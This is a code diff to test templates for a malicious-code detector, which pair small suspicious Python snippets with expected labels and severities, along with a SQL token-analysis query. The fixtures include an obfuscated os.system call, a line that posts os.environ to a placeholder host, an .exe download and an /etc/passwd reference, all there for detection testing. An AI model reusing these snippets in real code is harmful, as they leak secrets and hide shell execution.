@@ -20,14 +20,14 @@ TEMPLATES: list[tuple[str, list[tuple[str, int, str | None]]]] = [
     ("import pickle as p\n", [("PickleImport", 2, "pickle")]),
     ("import os as o\no.system('ls')\n", [("ShellExec", 3, "os.system")]),
     ("import os, base64\nos.system(base64.b64decode('bHMgLWxh').decode())\n", [("ObfuscatedShellExec", 5, "os.system"), ("Base64String", 3, "ls -la")]),
-    ("getattr(__import__('o' + 's'), 'metsys'[::-1])('id')\n", [("DunderImport", 3, '__import__("os")'), ("ObfuscatedShellExec", 4, "os.system")]),
+    ("getattr(__import__('o' + 's'), 'metsys'[::-1])('id')\n", [("DunderImport", 3, '__import__("os")'), ("ObfuscatedShellExec", 5, "os.system")]),
     ("# Obfuscated by me\n", [("SuspiciousComment", 5, "obfuscated by")]),
     ("def reverse_shell(payload):\n    pass\n", [("SuspiciousFunctionName", 4, "reverse_shell"), ("SuspiciousParameterName", 2, "payload")]),
     ("open('a.exe', 'w')\n", [("SuspiciousWrite", 4, "a.exe")]),
     ("import requests\nrequests.get('https://e.com/a.exe')\n", [("BinaryDownload", 3, "https://e.com/a.exe")]),
     ("import os, requests\nrequests.post('http://e.com', data=os.environ)\n", [("DataExfiltration", 3, "requests.post")]),
-    (f"x = [{_INTS}]\n", [("IntLiterals", 3, None)]),
-    (f"x = [{_HEX}]\n", [("HexedLiterals", 3, None)]),
+    (f"x = [{_INTS}]\n", [("IntLiterals", 3, "[0, 1, 2, 3, 4, ... ]")]),
+    (f"x = [{_HEX}]\n", [("HexedLiterals", 3, "[0x0, 0x1, 0x2, 0x3, 0x4, ... ]")]),
     ("p = '/etc/passwd'\n", [("PathEnumeration", 3, "/etc/passwd")]),
     ("import os\nos.dup2(1, 2)\nos.popen('x')\n", [("SuspiciousCall", 4, "os.dup2"), ("ShellExec", 3, "os.popen")]),
     ("eval('1 + 1')\n", [("CodeExec", 3, "eval")]),
@@ -90,7 +90,7 @@ def token_tests(spark: SparkSession, sf_dir: str) -> DataFrame:
     return rows.select("o_orderkey", T.is_base64(t).alias("base64"), T.bare_url(t).alias("bare"), T.telegram_token(t).alias("token"), T.hex_escapes(t).alias("hexed"), T.preview(t).alias("preview"), F.sha2(t, 256).alias("digest"), T.ends_with_any(T.bare_url(t), [".exe", ".dll"]).alias("binary_name"))
 
 
-_TOKEN_SQL = "SELECT o_orderkey, length(trim(t)) >= 8 AND length(trim(t)) % 4 = 0 AND regexp_matches(trim(t), '^[A-Za-z0-9+/_-]+={0,2}$') AS \"base64\", regexp_replace(t, '[?#].*$', '') AS bare, regexp_matches(t, '^[0-9]{8,10}:[A-Za-z0-9_-]{35}$') AS token, regexp_matches(t, '^(\\\\x[0-9a-fA-F]{2}){4,}$') OR (length(t) > 100 AND regexp_matches(t, '^([0-9a-fA-F]{2})+$')) AS hexed, CASE WHEN length(t) > 20 THEN left(t, 20) || '...' ELSE t END AS preview, sha256(t) AS digest, ends_with(regexp_replace(lower(t), '[?#].*$', ''), '.exe') OR ends_with(regexp_replace(lower(t), '[?#].*$', ''), '.dll') AS binary_name FROM (SELECT o_orderkey, ([" + ", ".join(map(_sql_text, TOKENS)) + f"])[1 + o_orderkey % {len(TOKENS)}] AS t FROM orders)"
+_TOKEN_SQL = "SELECT o_orderkey, length(trim(t)) >= 8 AND length(trim(t)) % 4 = 0 AND regexp_matches(trim(t), '^[A-Za-z0-9+/_-]+={0,2}$') AS \"base64\", regexp_replace(t, '[?#].*$', '') AS bare, regexp_matches(t, '^[0-9]{8,10}:[A-Za-z0-9_-]{35}$') AS token, regexp_matches(t, '^(\\\\x[0-9a-fA-F]{2}){4,}$') OR (length(t) > 100 AND regexp_matches(t, '^([0-9a-fA-F]{2})+$')) AS hexed, CASE WHEN length(t) > 16 THEN left(t, 8) || '...' || right(t, 8) ELSE t END AS preview, sha256(t) AS digest, ends_with(regexp_replace(lower(t), '[?#].*$', ''), '.exe') OR ends_with(regexp_replace(lower(t), '[?#].*$', ''), '.dll') AS binary_name FROM (SELECT o_orderkey, ([" + ", ".join(map(_sql_text, TOKENS)) + f"])[1 + o_orderkey % {len(TOKENS)}] AS t FROM orders)"
 
 
 def text_entropy(spark: SparkSession, sf_dir: str) -> DataFrame:
